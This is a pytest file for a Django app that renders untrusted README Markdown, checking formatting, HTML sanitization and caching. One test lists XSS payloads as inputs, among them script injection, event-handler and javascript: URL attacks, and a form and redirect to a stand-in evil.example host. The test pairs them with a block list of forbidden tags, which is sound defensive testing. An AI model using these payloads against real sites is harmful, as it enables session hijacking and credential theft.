"""READMEs are Markdown from strangers: rendered, sanitized, cached."""

from __future__ import annotations

import re

import pytest
from django.core.cache import cache

from catalog import readme
from catalog.readme import readme_html, render_markdown
from tests.factories import ModelFactory


def test_markdown_renders_headings_tables_code_and_links() -> None:
    html = render_markdown(
        "# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1)\n```\n\n"
        "[docs](https://example.com) ~~old~~"
    )
    assert "<h1>Title</h1>" in html
    assert "<table>" in html and "<td>1</td>" in html
    assert '<code class="language-python">print(1)' in html
    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">docs</a>' in html
    assert "<s>old</s>" in html


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        '<iframe src="https://evil.example"></iframe>',
        '<img src="x.png" onerror="alert(1)">',
        '<a href="javascript:alert(1)">click</a>',
        '<a href="JaVaScRiPt:alert(1)">click</a>',
        "[click](javascript:alert(1))",
        '<a href="data:text/html;base64,PHNjcmlwdD4=">click</a>',
        '<div onclick="alert(1)" style="background:url(javascript:alert(1))">x</div>',
        '<svg onload="alert(1)"></svg>',
        '<object data="x.swf"></object><embed src="x.swf">',
        '<form action="https://evil.example"><input name="password"></form>',
        "<style>body { display: none }</style>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    ],
)
def test_nothing_executable_gets_through(attack: str) -> None:
    html = render_markdown(f"Hello\n\n{attack}\n").lower()
    for forbidden in (
        "<script", "<iframe", "onerror", "onclick", "onload", "data:text",
        "<svg", "<object", "<embed", "<form", "<input", "<style", "<meta", "style=",
    ):  # fmt: skip
        assert forbidden not in html
    assert not re.search(r"<[^>]*javascript:", html)  # as text it is harmless; in a tag not
    assert "hello" in html


@pytest.mark.django_db
def test_the_rendered_readme_is_cached_until_the_model_changes(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    model = ModelFactory(readme="# One")
    assert "<h1>One</h1>" in readme_html(model)
    calls: list[str] = []
    monkeypatch.setattr(readme, "render_markdown", lambda text: calls.append(text) or "cached?")
    assert "<h1>One</h1>" in readme_html(model)
    assert calls == []
    model.readme = "# Two"
    model.save()
    assert readme_html(model) == "cached?"
    assert calls == ["# Two"]


@pytest.mark.django_db
def test_an_empty_readme_renders_nothing_and_caches_nothing() -> None:
    readme_html(ModelFactory(readme="  "))
    assert not [k for k in cache._cache if "readme" in str(k)]  # type: ignore[attr-defined]
